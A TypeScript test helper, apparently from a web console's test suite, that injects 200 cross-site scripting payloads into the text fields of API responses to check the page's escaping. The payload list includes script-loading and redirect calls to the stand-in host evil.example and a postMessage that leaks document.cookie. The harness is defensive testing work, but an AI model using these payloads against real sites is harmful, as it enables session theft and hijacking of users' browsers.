// Texts that a careless page would run: every way in with every deed. The console's own tests know the same two hundred.
const WAYS_IN = [
  "<script>%s</script>",
  "</script><script>%s</script>",
  '"><script>%s</script>',
  "<!--><script>%s</script>-->",
  "<img src=x onerror=%s>",
  "'><img src=x onerror=%s>",
  "<svg onload=%s>",
  "<svg><script>%s</script></svg>",
  "<math><mtext><script>%s</script></mtext></math>",
  '<iframe srcdoc="<script>%s</script>"></iframe>',
  '<a href="javascript:%s">look</a>',
  "<body onload=%s>",
  "<details open ontoggle=%s>x</details>",
  "<input autofocus onfocus=%s>",
  '" onmouseover="%s',
  '<style>@import url("javascript:%s");</style>',
  "javascript:%s",
  "data:text/html,<script>%s</script>",
  '{{constructor.constructor("%s")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what is tried
  "${%s}",
];

const DEEDS = [
  "window.owned=1",
  "alert(1)",
  "document.title='owned'",
  "fetch('/api/v1/owned')",
  "top.location='//evil.example'",
  "import('//evil.example/x.js')",
  "eval(atob('d2luZG93Lm93bmVkPTE='))",
  "Function('window.owned=1')()",
  "setTimeout('window.owned=1')",
  "parent.postMessage(document.cookie,'*')",
];

export const PAYLOADS = WAYS_IN.flatMap((way) => DEEDS.map((deed) => way.replace("%s", () => deed)));

/** The fields of the API that hold somebody's words or names; others hold numbers, times or words of the API's own. */
const TEXTS = new Set(
  [
    "author caller callee callers cause comment contract detail env host id ignored instance instances issuer",
    "label message method name notice owner process processId reason rootMethod rootService runbookUrl",
    "service services statusMessage subject summary title url version what words zone",
  ].flatMap((line) => line.split(" ")),
);
/** Whose keys are somebody's words, too. */
const OPEN = new Set(["attributes", "tags", "metadata"]);

type Json = string | number | boolean | null | Json[] | { [key: string]: Json };

/** Writes a script into each text of an answer, and takes it out of what is asked for again. */
export class Spoiler {
  private readonly originals = new Map<string, string>();
  private readonly spoiled = new Map<string, string>();
  private count = 0;

  /** The same text is always spoiled alike, so that names still lead to what they name. */
  text(value: string, payload?: string): string {
    const known = this.spoiled.get(value);
    if (known && !payload) return known;
    const made = `${value} ${payload ?? PAYLOADS[this.count++ % PAYLOADS.length]}`;
    this.originals.set(made, value);
    if (!payload) this.spoiled.set(value, made);
    return made;
  }

  answer(body: Json, key = ""): Json {
    if (typeof body === "string") return TEXTS.has(key) && body !== "" ? this.text(body) : body;
    if (Array.isArray(body)) return body.map((each) => this.answer(each, key));
    if (body === null || typeof body !== "object") return body;
    const entries = Object.entries(body).map(([name, value]) => [name, this.answer(value, name)]);
    return Object.fromEntries(OPEN.has(key) ? [...entries, ...this.besides(body)] : entries);
  }

  /** Names that mean something to the page stay; others come beside them. */
  private besides(body: { [key: string]: Json }): [string, Json][] {
    return Object.entries(body).map(([name, value]) => [this.text(name), this.text(String(value))]);
  }

  /** A list's first row two hundred times, each with a script of its own in every text. */
  rows(row: { [key: string]: Json }): Json[] {
    return PAYLOADS.map((payload) =>
      Object.fromEntries(
        Object.entries(row).map(([key, value]) => [
          key,
          typeof value === "string" && TEXTS.has(key) ? this.text(value, payload) : this.answer(value, key),
        ]),
      ),
    );
  }

  /** What is asked for, as the server knows it. */
  original(address: string): string {
    const url = new URL(address);
    const clean = (text: string) => this.originals.get(text) ?? text;
    url.pathname = url.pathname
      .split("/")
      .map((part) => encodeURIComponent(clean(decodeURIComponent(part))))
      .join("/");
    for (const [key, value] of [...url.searchParams]) url.searchParams.set(key, clean(value));
    return url.toString();
  }
}
